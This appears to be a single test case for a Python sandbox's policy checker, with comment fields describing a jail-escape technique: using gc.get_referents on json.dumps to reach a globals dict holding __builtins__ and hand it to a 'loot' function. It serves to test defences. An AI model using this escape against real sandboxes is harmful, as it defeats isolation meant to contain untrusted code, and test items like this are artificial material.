# aim: reach the globals of a function by what it refers to
# mechanism: gc.get_referents
# language: check
# reason: the policy does not authorize gc
# jail: process
# plain: loot
import gc, json
loot([each for each in gc.get_referents(json.dumps) if type(each) is dict and "__builtins__" in each][0])
